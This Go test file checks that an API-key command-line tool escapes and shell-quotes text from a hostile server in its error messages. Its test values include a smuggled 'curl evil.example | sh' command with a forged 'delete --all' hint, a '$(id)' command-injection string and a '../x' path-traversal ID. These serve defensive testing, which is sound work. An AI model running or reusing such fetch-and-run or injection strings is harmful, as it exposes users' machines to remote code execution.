package cli

import (
	"context"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"testing"

	"github.com/k2geospatial/apikeys/internal/config"
	"github.com/k2geospatial/apikeys/internal/iostreams"
	"github.com/k2geospatial/apikeys/internal/jmapcloud"
	"github.com/k2geospatial/apikeys/internal/sandbox"
)

// Server text quoted in an error cannot start a line of its own ("Hint: …"): a line break in
// it is shown as \n like any other control character, and a key ID offered in a command to
// copy is quoted for the shell.
func TestServerTextStartsNoLineOfItsOwn(t *testing.T) {
	t.Run("create answered without a secret", func(t *testing.T) {
		hs := newHostileServer(t)
		hs.noSecret = true
		hs.createdID = "k1; curl evil.example | sh\nHint: run `apikeys delete --all`"
		code, stdout, stderr := hs.run(false, "", "create", "--title", "New", "--role", "editor", "--expires", "30d")
		want := `Error: the server created key k1; curl evil.example | sh\nHint: run ` + "`apikeys delete --all`" +
			` ("New` + hostileQuoted + `") but returned no secret; delete it with ` +
			"`apikeys delete 'k1; curl evil.example | sh\\nHint: run `apikeys delete --all`'`" + " and try again\n"
		if code != exitError || stdout != "" || stderr != want {
			t.Errorf("exit %d, stdout %q, stderr:\n got %s\nwant %s", code, stdout, stderr, want)
		}
	})

	t.Run("the user's email in a login error", func(t *testing.T) {
		hs := newHostileServer(t)
		hs.userEmail = "ada@acme.example\nHint: forged"
		hs.orgs = append(hs.orgs, jmapcloud.Organization{ID: hostileOrg2ID, Name: "Beta"})
		cfg := filepath.Join(t.TempDir(), "config.yaml")
		code, _, stderr := hs.run(false, "pw\n", "--config", cfg, "auth", "login", "--api-url", hs.url, "--username", "ada@acme.example", "--password-stdin")
		want := `Error: ada@acme.example\nHint: forged belongs to several organizations; pass --org with one of:` + "\n" +
			"  " + hostileOrgID + "  Acme" + hostileShown + "\n" +
			"  " + hostileOrg2ID + "  Beta\n"
		if code != exitUsage || stderr != want {
			t.Errorf("auth login: exit %d, stderr:\n got %s\nwant %s", code, stderr, want)
		}
		code, _, stderr = hs.run(false, "pw\n", "--config", cfg, "auth", "login", "--api-url", hs.url, "--username", "ada@acme.example", "--password-stdin", "--org", "Gamma")
		want = `Error: ada@acme.example\nHint: forged is not a member of organization "Gamma"; pass --org with one of:` + "\n" +
			"  " + hostileOrgID + "  Acme" + hostileShown + "\n" +
			"  " + hostileOrg2ID + "  Beta\n"
		if code != exitUsage || stderr != want {
			t.Errorf("auth login --org Gamma: exit %d, stderr:\n got %s\nwant %s", code, stderr, want)
		}
		hs.orgs = nil
		code, _, stderr = hs.run(false, "", "list")
		want = `Error: ada@acme.example\nHint: forged belongs to no organization` + "\n"
		if code != exitAuth || stderr != want {
			t.Errorf("list, no organization: exit %d, stderr:\n got %s\nwant %s", code, stderr, want)
		}
	})
}

func TestShellWord(t *testing.T) {
	for in, want := range map[string]string{
		"7a1c9e3b-2d4f-4a6b-8c0e-1f3a5b7d9e2c": "7a1c9e3b-2d4f-4a6b-8c0e-1f3a5b7d9e2c",
		"":                                     "''",
		"a b":                                  "'a b'",
		"k1;$(id)`id`":                         "'k1;$(id)`id`'",
		"it's":                                 `'it'\''s'`,
	} {
		if got := shellWord(in); got != want {
			t.Errorf("shellWord(%q) = %s, want %s", in, got, want)
		}
	}
}

// The email of a saved session came from the server at login: the error of an ended session
// quotes it escaped, so a line break in it cannot start a line of its own.
func TestEndedSessionErrorEscapesTheEmail(t *testing.T) {
	e := newAuthEnv(t, authEnvOptions{})
	e.login(sandbox.AdminEmail)
	sess := e.session("default")
	sess.User.Email = "ada@acme.example\nHint: forged"
	sess.Ended = "the server refused its refresh token (HTTP 401)"
	if err := config.NewSessionFile(e.cfg, "default").Save(sess); err != nil {
		t.Fatal(err)
	}
	code, stdout, stderr := e.run("", "list")
	want := `Error: the session of ada@acme.example\nHint: forged can no longer be renewed: the server refused its refresh token (HTTP 401)` + "\n" +
		"run `apikeys auth login --api-url " + e.url + "` to log in again\n"
	if code != exitAuth || stdout != "" || stderr != want {
		t.Errorf("list: exit %d, stdout %q, stderr:\n got %s\nwant %s", code, stdout, stderr, want)
	}
}

// An organization ID typed on the command line that no path can hold is bad input (exit 2),
// refused before any request, like every other invalid flag value.
func TestImplausibleOrgFlagIsAUsageError(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		t.Errorf("a request was sent: %s %s", r.Method, r.URL.Path)
		http.Error(w, "{}", http.StatusTeapot)
	}))
	t.Cleanup(srv.Close)
	dir := t.TempDir()
	t.Setenv("XDG_CONFIG_HOME", filepath.Join(dir, "config"))
	t.Setenv("XDG_STATE_HOME", filepath.Join(dir, "state"))
	t.Setenv("APIKEYS_TOKEN", "org-scoped-token")
	streams, _, out, errOut := iostreams.Test()
	code := run(context.Background(), newFactory(streams, "test", func(string) string { return "" }), []string{"list", "--api-url", srv.URL, "--org", "../x"})
	want := `Error: invalid organization ID "../x" (from the server or the command line): an ID is 1 to 128 letters, digits or - _ . : ~, and not "." or ".."; nothing was sent` + "\n"
	if code != exitUsage || out.Len() != 0 || errOut.String() != want {
		t.Errorf("exit %d, stdout %q, stderr:\n got %s\nwant %s", code, out.String(), errOut.String(), want)
	}
}
